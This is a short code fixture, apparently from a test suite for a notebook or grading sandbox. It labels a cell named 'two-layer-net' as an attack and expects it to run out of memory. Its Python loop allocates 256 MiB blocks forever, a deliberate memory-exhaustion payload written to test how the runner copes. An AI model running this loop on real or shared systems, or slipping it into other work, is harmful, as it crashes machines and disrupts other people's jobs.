# cell: two-layer-net
# loses: two-layer-net-tests
# status: ok
# message: Cell two-layer-net ran out of memory
# attack: allocates memory until none is left
blocks = []
while True:
    blocks.append(bytearray(256 * 2**20))
